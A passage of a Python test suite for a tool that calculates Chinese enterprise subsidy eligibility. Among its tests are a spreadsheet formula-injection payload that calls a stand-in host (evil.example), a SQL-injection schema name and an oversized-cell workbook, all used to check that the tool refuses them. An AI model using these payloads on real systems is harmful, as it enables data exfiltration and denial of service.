        "91320506MA1XXXXX09,R1,recognition,2025-07-01,工业互联网、5G、实数融合等领域试点示范或场景案例,省级,\n",
    )
    row = batch_rows(folder, engine_name, "2025-12-31", tmp_path / "结果.csv", capsys)[("wz-14-iiot-demo", "R1")]
    assert (row["状态"], row["原因代码"]) == ("可享受", "once_key_missing")
    assert row["原因与说明"].endswith("未填写产品（型号、系列），无法核对是否已奖励过同一产品（型号、系列）（按未奖励过计）"), (
        row["原因与说明"]
    )


def test_event_ids_of_two_enterprises_with_bad_codes_are_not_duplicates(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Two events E1 of two different (invalid) credit codes were reported as one enterprise's
    duplicate ids besides their bad codes: the owner of an id is its code as written."""
    folder = csv_register(
        tmp_path,
        "credit_code,name,region\n91320506MA1XXXXX09,甲,320506\n",
        "credit_code,id,kind,date,category,amount\n"
        "91320506MA1XAAAA00,E1,purchase,2025-06-01,机器人产品或服务,100000\n"
        "91320506MA1XBBBB00,E1,purchase,2025-06-01,机器人产品或服务,100000\n"
        "91320506MA1XBBBB00,E1,purchase,2025-06-02,机器人产品或服务,100000\n",
    )
    messages = []
    for engine_name in ("reference", "duckdb"):
        assert main(["batch", str(folder), "--engine", engine_name, "--as-of", "2025-12-31", "--json"]) == 0
        messages.append([e["expected"] for e in json.loads(capsys.readouterr().out)["errors"]])
    assert messages[0] == messages[1]
    assert sum("事项编号重复（首次出现于第3行）" in m for m in messages[0]) == 1  # the same bad code twice: still one owner


@pytest.mark.parametrize("register_kind", ["csv", "xlsx"])
def test_events_dated_after_the_reference_date_are_counted_and_told(
    tmp_path: Path, register_kind: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """免申即享 "as of 2025-12-31" with an event of 2026: evaluated on its own date, as every event
    is, but the summary says how many there are, so a wrong 基准日 or date is seen."""
    folder = csv_register(
        tmp_path,
        "credit_code,name,region,town\n91320506MA1XXXXX09,甲,320506,木渎镇\n",
        "credit_code,id,kind,date,category,amount\n"
        "91320506MA1XXXXX09,E1,purchase,2025-06-01,机器人产品或服务,800000\n"
        "91320506MA1XXXXX09,E2,purchase,2026-08-26,机器人产品或服务,800000\n",
    )
    register = folder
    if register_kind == "xlsx":
        register = tmp_path / "登记表.xlsx"  # the same rows as a workbook (the DuckDB engine's other path)
        wb = openpyxl.Workbook()
        wb.active.title = "企业"
        for name in ("enterprises", "events"):
            ws = wb.active if name == "enterprises" else wb.create_sheet("事项")
            for line in (folder / f"{name}.csv").read_text(encoding="utf-8").splitlines():
                ws.append(line.split(","))
        wb.save(register)
    for engine_name in ("reference", "duckdb"):
        args = ["batch", str(register), "--engine", engine_name, "--as-of", "2025-12-31"]
        assert main([*args, "--json"]) == 0
        assert json.loads(capsys.readouterr().out)["events_after_as_of"] == 1
        assert main(args) == 0
        assert "注意：1条事项的发生日期晚于基准日2025-12-31，已按各自日期测算" in capsys.readouterr().out


@pytest.mark.parametrize("engine_name", ["reference", "duckdb"])
def test_a_payer_level_the_region_lacks_is_named_in_words(
    tmp_path: Path, engine_name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """An enterprise registered under 苏州市's own code (320500) is in no district: the 县级 share of
    苏州2020 第一条 was paid by "district"; it is now 区（县）级财政."""
    enterprises = "credit_code,name,region\n91320500MA1W20001X,测试企业,320500\n"
    events = "credit_code,id,kind,date,amount,purpose,via_platform\n91320500MA1W20001X,L1,loan,2022-06-01,10000000,智能化改造提升项目,是\n"
    payers = _by_payer(tmp_path, capsys, engine_name, enterprises, events, "2022-12-31")
    assert set(payers) == {"苏州市财政", "区（县）级财政"}


def _by_payer(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine_name: str, enterprises: str, events: str, as_of: str
) -> dict[str, Any]:
    """``huiqi batch --json``'s 按出资方 summary of a CSV register of the two tables' text."""
    folder = csv_register(tmp_path, enterprises, events)
    assert main(["batch", str(folder), "--engine", engine_name, "--as-of", as_of, "--json"]) == 0
    payers: dict[str, Any] = json.loads(capsys.readouterr().out)["by"]["payer"]
    return payers


def test_a_qualifications_grade_column_says_where_the_grade_goes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A 资质's 等级 is read by no rule (an upgrade 先进级 → 卓越级 is judged by events): the column's
    notice says to record the earlier grade as an event, on both engines."""
    folder = csv_register(
        tmp_path,
        "credit_code,name,region,town\n91320506MA1XXXXX09,甲,320506,木渎镇\n",
        "credit_code,id,kind,date,title,level,grade\n91320506MA1XXXXX09,R1,获评认定,2025-09-01,智能工厂,国家级,卓越级\n",
    )
    (folder / "qualifications.csv").write_text(
        "统一社会信用代码,资质名称,级别,等级,获得日期\n91320506MA1XXXXX09,智能工厂,国家级,先进级,2024-01-01\n", encoding="utf-8"
    )
    for engine_name in ("reference", "duckdb"):
        assert main(["batch", str(folder), "--engine", engine_name, "--as-of", "2025-12-31", "--json"]) == 0
        (notice,) = json.loads(capsys.readouterr().out)["errors"]
        assert notice["column"] == "等级" and notice["expected"].endswith("请在“事项”表记为一个获评认定事项")


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (
            '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>',
            "在XFD1048576单元格有内容，超出登记表的列数",
        ),
        ('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', "在XFD1048576单元格有内容，超出登记表的列数"),
        ('<row r="1048576"><c r="XFD1048576" s="0"/></row>', None),  # a style without a value: not read
        ('<row r="60000"><c r="A60000" t="inlineStr"><is><t>备注</t></is></c></row>', None),  # far below: a row
    ],
    ids=["far-text", "far-number", "far-style-only", "far-below"],
)
def test_a_sheet_with_a_value_far_right_of_its_table_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], cell: str, expected: str | None
) -> None:
    """One value at XFD1048576 in a 1.4 MB workbook made the reader build 16,384 × 1,048,576 cells
    (512 GiB): the process aborted, taking the web server with it. It is refused by name; a
    formatted empty cell there, or a value far below the table, is read as before."""
    import zipfile

    register = write_xlsx(tmp_path / "登记表.xlsx")
    bomb = tmp_path / "远处单元格.xlsx"
    with zipfile.ZipFile(register) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", cell.encode() + b"</sheetData>")
            out.writestr(info, data)
    for engine_name in ("reference", "duckdb"):
        code = main(["batch", str(bomb), "--engine", engine_name, "--as-of", "2025-12-31"])
        err = capsys.readouterr().err
        if expected is None:
            assert code == 0, err
            continue
        assert code == 2
        assert expected in err and "Traceback" not in err, err


def test_the_register_sheets_fit_under_the_far_cell_limit() -> None:
    """Excel sheets with a value past column CZ (104) are refused (``io_read._FAR_CELL``): the widest
    register sheet must leave room under it for an officer's own columns. Raise the limit there
    before the catalogue grows this far."""
    from huiqi.batch.layout import layout

    lay = layout(engine().catalogue)
    assert len(lay.events) + 20 <= 104, len(lay.events)


def test_a_row_not_counted_says_why_in_its_status(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An item refused because the yearly cap was used up was labelled 不重复享受 (就高不重复) and
    counted with them; each such row now says why: 额度已用尽, and 不重复享受 only for 就高不重复."""
    code = make_credit_code("91320506MA1XD0000")
    header = "credit_code,id,kind,date,category,amount,total_investment,equipment_investment,annual_investment\n"
    events = (
        f"{code},P1,purchase,2025-06-01,机器人产品或服务,3000万元,,,\n"  # 5% = 150万 → 每年最高100万元
        f"{code},P2,purchase,2025-07-01,机器人产品或服务,1000万元,,,\n"  # the year's 100万 used up
        f"{code},D1,project,2025-08-01,数字化网络化改造,,600万元,500万元,300万元\n"  # 第8条 and 第13条: 就高
    )
    register = csv_register(
        tmp_path, f"credit_code,name,region,town,industrial\n{code},示例企业,320506,木渎镇,是\n", header + events
    )
    for engine_name in ("reference", "duckdb"):
        out = tmp_path / f"{engine_name}.csv"
        assert main(["batch", str(register), "--engine", engine_name, "--as-of", "2025-12-31", "--out", str(out)]) == 0
        printed = capsys.readouterr().out
        # the count's label names every reason it counts (已奖励过 too: it said 不重复或额度已用尽)
        assert "未计入（不重复、额度已用尽或已奖励过）" in printed, printed
        with out.open(encoding="utf-8-sig") as fh:
            rows = {(r["奖补项编号"], r["事项编号"]): (r["状态"], r["原因代码"]) for r in csv.DictReader(fh)}
        assert rows[("wz-1-robot-purchase", "P2")] == ("额度已用尽", "cap_exhausted"), engine_name
        set_aside = [v for (b, e), v in rows.items() if e == "D1" and v[1] == "exclusivity"]
        assert set_aside and all(status == "不重复享受" for status, _ in set_aside), (engine_name, rows)


@pytest.mark.parametrize("engine_name", ["reference", "duckdb"])
def test_articles_with_more_items_than_places_are_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine_name: str
) -> None:
    """苏州2020 第八条 每年评选10个优秀服务商: 12 qualify in 2022, 6 in 2021. The totals count all of
    them (who gets the places is decided in review); the run says the quota caps what 2022 will be
    paid (nothing said so), and not of 2021."""
    codes = [make_credit_code(f"91320506MA1XE{i:04d}") for i in range(18)]
    enterprises = "credit_code,name,region,kind\n" + "".join(f"{c},服务商{i},320506,企业\n" for i, c in enumerate(codes))
    events = "credit_code,id,kind,date,title,level\n" + "".join(
        f"{c},V1,recognition,{'2022' if i < 12 else '2021'}-06-01,智能化改造和数字化转型优秀服务商,市级\n"
        for i, c in enumerate(codes)
    )
    register = csv_register(tmp_path, enterprises, events)
    out = tmp_path / "结果.xlsx"
    args = ["batch", str(register), "--engine", engine_name, "--as-of", "2022-12-31", "--out", str(out), "--json"]
    assert main(args) == 0
    data = json.loads(capsys.readouterr().out)
    key = "苏州2020 第八条 智能化改造和数字化转型优秀服务商奖励"
    assert data["by"]["article"][key]["count"] == 18
    assert data["quotas"] == {
        key: "名额：每年10个（原文所定数量）；符合条件的2022年12项均已计入合计，实际以名额为限；"
        "按名额计至多2022年500万元（金额最高的10项之和）"  # 10 places of 最高50万元
    }
    overview = {r["项目"]: r["值"] for r in sheet_rows(openpyxl.load_workbook(out), "汇总")}
    assert overview[f"名额：{key}"] == data["quotas"][key]
    assert main(args[:-1]) == 0
    assert f"  {key}：名额：每年10个" in capsys.readouterr().out


@pytest.mark.parametrize("engine_name", ["reference", "duckdb", pytest.param("spark", marks=pytest.mark.spark)])
def test_departments_listed_in_another_order_are_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine_name: str
) -> None:
    """吴中 第1条 lists 区工信局、区科技局, 第3条 区科技局、区工信局: two 按责任单位 lines for one pair."""
    if engine_name == "spark":
        pytest.importorskip("pyspark")
    code = make_credit_code("91320506MA1XF0000")
    events = (
        "credit_code,id,kind,date,category,amount,drug_type,phase,rd_investment,in_china\n"
        f"{code},P1,purchase,2025-06-01,机器人产品或服务,100万元,,,,\n"
        f"{code},T1,clinical_trial,2025-09-01,,,创新药,Ⅲ期,3000万元,是\n"
    )
    register = csv_register(tmp_path, f"credit_code,name,region,town\n{code},示例企业,320506,木渎镇\n", events)
    out = tmp_path / "结果.csv"
    assert main(["batch", str(register), "--engine", engine_name, "--as-of", "2025-12-31", "--json", "--out", str(out)]) == 0
    by = json.loads(capsys.readouterr().out)["by"]["department"]
    assert list(by) == ["区工信局、区科技局"] and by["区工信局、区科技局"]["count"] == 2
    # the rows name the pair as that line does (第3条's rows said 区科技局、区工信局): a pivot of 结果 ties back
    with out.open(encoding="utf-8-sig") as fh:
        rows = {(r["奖补项编号"], r["事项编号"]): r["责任单位"] for r in csv.DictReader(fh)}
    assert any(b.startswith("wz-3-") for b, _ in rows) and set(rows.values()) == {"区工信局、区科技局"}, rows
    with (tmp_path / "结果.按责任单位.csv").open(encoding="utf-8-sig") as fh:
        assert [r["责任单位"] for r in csv.DictReader(fh)] == ["区工信局、区科技局"]


@pytest.mark.parametrize("engine_name", ["reference", "duckdb", pytest.param("spark", marks=pytest.mark.spark)])
def test_items_without_a_stated_amount_are_counted_apart_and_open_splits_are_marked(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine_name: str
) -> None:
    """吴中 第20条 给予相应补助 states no amount: such items were in no summary line (477 of 2,468 granted rows of
    a probe's run). Each line now counts them apart (另有金额未定项数), under the payers the rule names too
    (吴中区财政 and 木渎镇财政 for 吴中's 4:6 split), and the money totals are unchanged. 武进's payer
    (按现行财政体制分级承担) fixes no split between levels: its 按出资方 line says so (出资方式 未明确分担)."""
    if engine_name == "spark":
        pytest.importorskip("pyspark")
    wz, wj = make_credit_code("91320506MA1XH0000"), make_credit_code("91320412MA1WJ0001")
    register = csv_register(
        tmp_path,
        f"credit_code,name,region,town,manufacturing_enterprise\n{wz},示例吴中企业,320506,木渎镇,\n{wj},示例武进企业,320412,,是\n",
        "credit_code,id,kind,date,category,amount,public_service,total_investment,smart_it_investment\n"
        f"{wz},P1,purchase,2025-06-01,机器人产品或服务,100万元,,,\n"  # 5% = 5万元 (money)
        f"{wz},R1,project,2025-07-01,专题培训,,是,,\n"  # 第20条 给予相应补助 (no amount)
        f"{wj},W1,project,2024-05-20,智改数转网联改造,,,8000000,4000000\n",  # 最高20万元, paid 按现行财政体制
    )
    out = tmp_path / "结果.xlsx"
    args = ["batch", str(register), "--engine", engine_name, "--as-of", "2025-12-31"]
    assert main([*args, "--json", "--out", str(out)]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["results"]["granted"] == 3
    assert data["total"] == {"count": 2, "min": "0.00", "max": "250000.00", "unbounded": 0, "unpriced": 1}
    by = data["by"]
    article = "吴中2025 第20条 公共服务性质的学术研究、课题报告、专题培训、专业咨询服务补助"
    nothing = {"count": 0, "min": "0.00", "max": "0.00", "unbounded": 0, "unpriced": 1}
    assert by["article"][article] == by["department"]["区相关单位"] == nothing
    assert by["document"]["吴中2025"]["unpriced"] == by["town"]["木渎镇"]["unpriced"] == 1
    assert by["document"]["武进2024"]["unpriced"] == by["town"]["（320412，未填镇街）"]["unpriced"] == 0
    for payer, share in (("吴中区财政", "20000.00"), ("木渎镇财政", "30000.00")):  # 5万元 at 4:6, and the item without an amount
        assert by["payer"][payer] == {"count": 1, "min": "0.00", "max": share, "unbounded": 0, "unpriced": 1, "split": "已明确"}
    open_split = "武进区（按现行财政体制分级承担）"
    assert by["payer"][open_split]["split"] == "未明确分担" and by["payer"][open_split]["unpriced"] == 0
    wb = openpyxl.load_workbook(out)
    overview = {r["项目"]: r["值"] for r in sheet_rows(wb, "汇总")}
    assert overview["另有金额未定项数"] == 1 and fen(overview["合计最高（元）"]) == 25_000_000
    assert "另有金额未定项数" in overview["说明"] and "未明确分担" in overview["说明"]
    assert {r["条款"]: r["另有金额未定项数"] for r in sheet_rows(wb, "按条款")}[article] == 1
    payers = {r["出资方"]: (r["出资方式"], r["项数"], r["另有金额未定项数"]) for r in sheet_rows(wb, "按出资方")}
    assert payers == {open_split: ("未明确分担", 1, 0), "吴中区财政": ("已明确", 1, 1), "木渎镇财政": ("已明确", 1, 1)}
    for title in ("按政策文件", "按责任单位", "按镇街"):
        assert sum(r["另有金额未定项数"] for r in sheet_rows(wb, title)) == 1, title
    assert main(args) == 0
    text = capsys.readouterr().out
    assert "另有1项可享受但原文未定金额" in text
    assert "  吴中区财政：1项，最低0.00元，最高20,000.00元，另有1项金额未定" in text
    assert f"  {open_split}［未明确分担：原文未定各级财政分担比例］：1项" in text


def test_text_that_excel_would_run_as_a_formula_is_written_as_text_in_csv(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An enterprise named =HYPERLINK("http://…"&A2) became a live formula when the officer opened the
    CSV results in Excel (the file is UTF-8 with BOM, for Excel): it is now written after a '."""
    codes = [make_credit_code(f"91320506MA1XG{i:04d}") for i in range(4)]
    names = ['=HYPERLINK("http://evil.example/?"&A2,"点击")', "@SUM(1+1)", "-1+1", "示例企业"]
    enterprises = "credit_code,name,region,town\n" + "".join(
        f'{c},"{n.replace(chr(34), chr(34) * 2)}",320506,木渎镇\n' for c, n in zip(codes, names, strict=True)
    )
    events = (
        "credit_code,id,kind,date,category,amount\n"
        + "".join(f"{c},E1,purchase,2025-06-01,机器人产品或服务,{'-5' if i == 3 else '80万元'}\n" for i, c in enumerate(codes))
        + f'{codes[3]},E2,purchase,2025-06-01,机器人产品或服务,"-1,000"\n'
    )  # refused, shown in 问题 as written
    register = csv_register(tmp_path, enterprises, events)
    out = tmp_path / "结果.csv"
    assert main(["batch", str(register), "--as-of", "2025-12-31", "--out", str(out)]) == 0
    capsys.readouterr()
    with out.open(encoding="utf-8-sig") as fh:
        shown = {r["企业名称"] for r in csv.DictReader(fh)}
    assert shown == {"'" + n for n in names[:3]}  # the fourth's only event is refused: no row
    with (tmp_path / "结果.问题.csv").open(encoding="utf-8-sig") as fh:
        values = [r for r in csv.DictReader(fh)]
    assert {"-5", "-1,000"} <= {v["值"] for v in values}  # a number stays a number


def test_a_schema_name_is_a_name_not_sql(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`--schema 'a"b'` ended in a DuckDB ParserException traceback on the reference engine, and a
    schema named to close the quote ran the rest of its name as SQL (read_text of a local file)."""
    import duckdb

    path = tmp_path / "登记表.duckdb"
    schema = 'p"."enterprises" UNION ALL SELECT \'LEAK\' --'
    con = duckdb.connect(str(path))
    con.execute(f'CREATE SCHEMA "{schema.replace(chr(34), chr(34) * 2)}"')
    con.execute(
        f'CREATE TABLE "{schema.replace(chr(34), chr(34) * 2)}".enterprises (credit_code VARCHAR, name VARCHAR, region VARCHAR)'
    )
    con.execute(
        f"INSERT INTO \"{schema.replace(chr(34), chr(34) * 2)}\".enterprises VALUES ('{make_credit_code('91320506MA1XH0000')}', '示例', '320506')"
    )
    con.close()
    for engine_name in ("reference", "duckdb"):
        assert main(["batch", str(path), "--schema", schema, "--engine", engine_name, "--as-of", "2025-12-31", "--json"]) == 0
        data = json.loads(capsys.readouterr().out)
        assert data["rows"]["enterprises"] == {"read": 1, "rejected": 0, "accepted": 1}, engine_name
    assert main(["batch", str(path), "--schema", 'a"b', "--engine", "reference"]) == 2
    assert "Traceback" not in capsys.readouterr().err


@pytest.mark.parametrize("engine_name", ["reference", "duckdb"])
def test_max_years_counts_an_award_received_in_its_events_year(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine_name: str
) -> None:
    """苏州2025 八 最多3年: 50万元 received for the 2026 cost C4 but recorded as of 2025 was a third
    year beside 2023 and 2024, so C4 was refused; it is C4's own year (as yearly caps count it)."""
    code = make_credit_code("91320506MA1XJ0000")
    facts = "compute_use,{d},{c},是,150,6,是"
    events = "credit_code,id,kind,date,compute_cost,embodied_ai,model_params,typical_scenarios,model_builder\n" + "".join(
        f"{code},{i},{facts.format(d=d, c=c)}\n"
        for i, d, c in (("C4", "2026-07-01", "1000万元"), ("C5", "2027-02-01", "1000万元"))
    )
    register = csv_register(tmp_path, f"credit_code,name,region,town\n{code},示例企业,320506,木渎镇\n", events)
    (register / "prior_awards.csv").write_text(
        "credit_code,amount,year,level,benefit,event,document\n"
        + "".join(f"{code},10万元,{y},city,sz25-8-large-model-compute,,苏州2025具身智能\n" for y in (2023, 2024))
        + f"{code},50万元,2025,city,sz25-8-large-model-compute,C4,苏州2025具身智能\n",
        encoding="utf-8",
    )
    found = batch_rows(register, engine_name, "2027-12-31", tmp_path / "结果.csv", capsys)
    rows = {k: (r["状态"], r["最高（元）"], r["原因代码"]) for k, r in found.items()}
    assert rows[("sz25-8-large-model-compute", "C4")] == ("可享受", "2500000.00", "")  # 300万元 less the 50万元 received
    # 2027: supported in 2023, 2024 and 2026 (C4's year) already
    assert rows[("sz25-8-large-model-compute", "C5")] == ("未满足条件", "", "max_years")


def test_a_granted_row_of_the_compiled_backend_shows_how_its_amount_was_reckoned(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """吴中2025 第3条: 20% of the R&D spend (1600万元: 320万元), 最高300万元 per device, 500万元 a year in all. A granted
    row's 原因与说明 was empty in the compiled backends; it now gives the formula, the case the
    amount took and what cut it, without the enterprise's values (the amounts are in their columns)."""
    folder = csv_register(
        tmp_path,
        "credit_code,name,region\n91320506MA1XXXXX09,示例医疗器械企业,320506\n",
        "credit_code,id,kind,date,device_class,first_registration,has_invention_patent,rd_expense,product_series,title,level\n"
        "91320506MA1XXXXX09,D1,device_registration,2025-06-01,第三类,是,是,16000000,A系列,,\n"
        "91320506MA1XXXXX09,D2,device_registration,2025-08-01,第三类,是,是,12000000,B系列,,\n"
        "91320506MA1XXXXX09,D3,device_registration,2025-09-01,第二类,是,是,6000000,C系列,,\n"
        "91320506MA1XXXXX09,T1,recognition,2025-10-01,,,,,,工业设计中心,省级\n",
    )
    rows = batch_rows(folder, "duckdb", "2025-12-31", tmp_path / "结果.csv", capsys)
    d1, d2, d3 = (rows[("wz-3-class3-device", "D1")], rows[("wz-3-class3-device", "D2")], rows[("wz-3-class2-device", "D3")])
    assert (d1["状态"], d1["最高（元）"], d1["原因代码"]) == ("可享受", "3000000.00", "")
    # 经评审…给予最高300万元: a granted row says the amount waits on review (a finance officer read it as committed)
    reviewed = "；须经评审，评审通过后方可享受"
    assert d1["原因与说明"] == "实际研发费用（核定研发费） × 20%；最高300万元：已封顶" + reviewed
    assert (d2["状态"], d2["最高（元）"]) == ("可享受", "2000000.00")  # 240万元, 500万元 less D1's 300万元
    assert d2["原因与说明"] == "实际研发费用（核定研发费） × 20%；每年最高500万元：按限额余额核减" + reviewed
    reference = batch_rows(folder, "reference", "2025-12-31", tmp_path / "参考.csv", capsys)
    assert reference[("wz-3-class3-device", "D1")]["原因与说明"].endswith(reviewed)
    assert d3["原因代码"] == "cap_exhausted" and d3["原因与说明"] == "限额已用尽"  # set aside: its reason only
    design = rows[("wz-15-design-center", "T1")]
    assert design["状态"] == "可享受"
    assert design["原因与说明"] == "级别为“省级”：最高30万元（具体金额经审核确定）"


@pytest.mark.parametrize("engine", ["reference", "duckdb"])
def test_a_town_share_without_a_town_is_named_in_the_texts_words(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine: str
) -> None:
    """吴中2025 第22条: 由区、镇（开发区、太湖新城）按4:6分担. An enterprise registered without its town pays its
    6 shares through 吴中区属地镇（开发区、太湖新城）财政 — the text's words; it was 镇（街道、板块）, another text's."""
    enterprises = "credit_code,name,region,industrial\n91320506MA1XXXXX09,示例企业,320506,是\n"
    events = (
        "credit_code,id,kind,date,category,total_investment,annual_investment\n"
        "91320506MA1XXXXX09,D1,project,2025-06-01,数字化网络化改造,8000000,3000000\n"
    )
    payers = _by_payer(tmp_path, capsys, engine, enterprises, events, "2025-12-31")
    assert {name: p["max"] for name, p in payers.items()} == {
        "吴中区属地镇（开发区、太湖新城）财政": "480000.00",
        "吴中区财政": "320000.00",
    }


@pytest.mark.parametrize("engine", ["reference", "duckdb"])
def test_a_title_entered_once_without_its_level_is_not_new_again(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine: str
) -> None:
    """吴中2025 第4条 新获评…低空经济领航企业 10万元: the same title entered first without its 级别, then as 市级, was
    paid twice (a blank level on an earlier 资质 row already counted as the same level, on an earlier event it did not)."""
    code = make_credit_code("91320506MA1W2000L")
    folder = csv_register(
        tmp_path,
        f"credit_code,name,region,town\n{code},低空测试,320506,木渎镇\n",
        "credit_code,id,kind,date,title,level\n"
        f"{code},A,recognition,2026-06-02,苏州市低空经济领航企业,\n"
        f"{code},B,recognition,2026-07-19,苏州市低空经济领航企业,市级\n",
    )
    rows = {
        e: r
        for (b, e), r in batch_rows(folder, engine, "2026-12-31", tmp_path / "结果.csv", capsys).items()
        if b.startswith("wz-4")
    }
    assert (rows["A"]["状态"], rows["A"]["最高（元）"]) == ("可享受", "100000.00")
    assert rows["B"]["状态"] == "未满足条件", rows["B"]
    if engine == "reference":
        assert (
            "事项A（2026-06-02）已获评“苏州市低空经济领航企业”（级别未填，按同一级别计），不属于首次/新获评"
            in rows["B"]["原因与说明"]
        )


_CODES = [make_credit_code(f"91320506MA1XJ{i:04d}") for i in range(3)]


@pytest.mark.parametrize("engine", ["reference", "duckdb"])
def test_jiugao_after_the_yearly_caps_in_a_register(tmp_path: Path, capsys: pytest.CaptureFixture[str], engine: str) -> None:
    """吴中2025 第8条, per enterprise: two 数字化网络化改造 projects, D2 also a 技改 project (数字化 60万元, cut to
    20万元 by its yearly 100万元 after D1; 技改 30万元). E1 keeps 技改 for D2 (110万元 in all, not 100万元), and the
    数字化 row set aside says why. E2 has used 技改's yearly cap on an earlier project: keeping 技改 would pay
    nothing, so 数字化 stays and the 技改 row says it was tried. E3's D3 keeps 技改 too, which its cap then cuts
    below 数字化: not tried again, for review. Each engine the same (the compiled plan's ``_b`` steps)."""
    ents = "credit_code,name,region,industrial\n" + "".join(f"{c},示例企业{i},320506,是\n" for i, c in enumerate(_CODES, 1))
    d1 = "D1,project,2025-06-01,数字化网络化改造,8000000,3000000,\n"
    d2 = "D2,project,2025-07-01,数字化网络化改造,6000000,3000000,5000000\n"
    rows = [f"{_CODES[0]},{d1}", f"{_CODES[0]},{d2}", f"{_CODES[1]},D0,project,2025-05-10,企业技术改造,30000000,,30000000\n"]
    rows += [f"{_CODES[1]},{d1}", f"{_CODES[1]},{d2}", f"{_CODES[2]},{d1}", f"{_CODES[2]},{d2.replace('6000000', '15000000')}"]
    rows.append(f"{_CODES[2]},D3,project,2025-08-01,数字化网络化改造,10000000,3000000,5000000\n")
    folder = csv_register(
        tmp_path,
        ents,
        "credit_code,id,kind,date,category,total_investment,annual_investment,equipment_investment\n" + "".join(rows),
    )
    out = tmp_path / "结果.csv"
    assert main(["batch", str(folder), "--engine", engine, "--as-of", "2025-12-31", "--out", str(out)]) == 0
    capsys.readouterr()
    with out.open(encoding="utf-8-sig") as fh:
        got = {(r["统一社会信用代码"], r["奖补项编号"], r["事项编号"]): r for r in csv.DictReader(fh)}

    def row(i: int, benefit: str, event: str) -> tuple[str, str, str]:
        r = got[(_CODES[i], f"wz-8-{benefit}-renovation", event)]
        return r["状态"], r["最高（元）"], r["原因与说明"]

    capped = "改按该项支持，企业合计可得更多（解释：原文未明确“就高”按限额前还是限额后的金额比较"
    tried = "已改按本项重新测算，企业合计可得未更高，仍保留该项，请人工复核"
    untried = "按就高原则可能应改按本项支持，请人工复核（就高不重复先于年度限额判断）"
    assert row(0, "tech", "D2")[:2] == ("可享受", "300000.00")
    status, _, why = row(0, "digital", "D2")
    assert status == "不重复享受" and capped in why and "请人工复核" not in why, why
    assert row(1, "digital", "D2")[:2] == ("可享受", "200000.00")
    status, _, why = row(1, "tech", "D2")
    assert status == "不重复享受" and why.endswith(tried) and capped not in why, why
    assert [row(2, "tech", e)[:2] for e in ("D2", "D3")] == [("可享受", "750000.00"), ("可享受", "250000.00")]
    status, _, why = row(2, "digital", "D3")
    assert status == "不重复享受" and capped in why and why.endswith(untried), why


@pytest.mark.parametrize("engine", ["reference", "duckdb"])
def test_no_review_is_asked_for_an_item_its_own_yearly_cap_keeps_below_the_kept_one(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine: str
) -> None:
    """苏州2025 第八条: 2000万元 of compute pays 50% capped at 300万元 a year, or 20% capped at 200万元.
    C1 keeps the 300万元: the 20% item (400万元 before its cap) could never pay more, so nothing is to be
    reviewed. C2's 50% item has no room left after C1 and the 20% item pays 100万元: that one is kept for C2
    (就高 after the caps), and neither asks for review."""
    folder = csv_register(
        tmp_path,
        "credit_code,name,region,industrial\n91320506MA1XXXXX09,示例企业,320506,是\n",
        "credit_code,id,kind,date,compute_cost,embodied_ai,model_params,typical_scenarios,model_builder\n"
        "91320506MA1XXXXX09,C1,compute_use,2025-07-01,20000000,是,150,6,是\n"
        "91320506MA1XXXXX09,C2,compute_use,2025-11-01,5000000,是,150,6,是\n",
    )
    rows = batch_rows(folder, engine, "2025-12-31", tmp_path / "结果.csv", capsys)
    c1, c2 = rows[("sz25-8-compute-user", "C1")], rows[("sz25-8-compute-user", "C2")]
    large = rows[("sz25-8-large-model-compute", "C2")]
    assert (c1["状态"], c2["状态"], c2["最高（元）"], large["状态"]) == ("不重复享受", "可享受", "1000000.00", "不重复享受")
    assert "请人工复核" not in c1["原因与说明"], c1["原因与说明"]
    assert "企业合计可得更多" in large["原因与说明"] and "请人工复核" not in large["原因与说明"], large["原因与说明"]


def test_a_yearly_item_evaluated_after_its_year_says_which_reference_date_to_use(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """武进2024 第2条 rewards 当年度产销: the 2024 figures, known in spring 2025, evaluated on 2025-03-31
    fall outside 武进2024 (2024). Each engine's row says to use 2024-12-31 as the reference date."""
    code = make_credit_code("91320412MA1XF0000")
    folder = csv_register(
        tmp_path,
        f"credit_code,name,region,industrial,annual_sales,prior_peak_sales\n{code},武进产销,320412,是,51亿元,49亿元\n",
        "credit_code,id,kind,date\n",
    )
    for name in ("reference", "duckdb"):
        row = batch_rows(folder, name, "2025-03-31", tmp_path / f"{name}.csv", capsys)[("wj-2-first-5bn", "（年度）")]
        said = row["原因与说明"]
        assert row["原因代码"] == "validity", name
        assert said.endswith("；年度奖补按测算基准日判断，测算2024年度请以2024-12-31为测算基准日"), (name, said)


def test_a_registers_value_equal_to_its_default_may_have_been_left_blank(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """苏州2020 第一条 pays interest on loans taken through the city's platform; a blank cell is read as
    否 (the default). The register's reader puts the default in, so a blank and a written 否 cannot be told
    apart: the reason says either may be the case, not that the enterprise answered 否."""
    code = make_credit_code("91320506MA1XG0000")
    folder = csv_register(
        tmp_path,
        f"credit_code,name,region\n{code},示例企业,320506\n",
        "credit_code,id,kind,date,purpose,amount,via_platform\n"
        f"{code},L1,loan,2022-06-01,智能化改造提升项目,2000万元,\n"
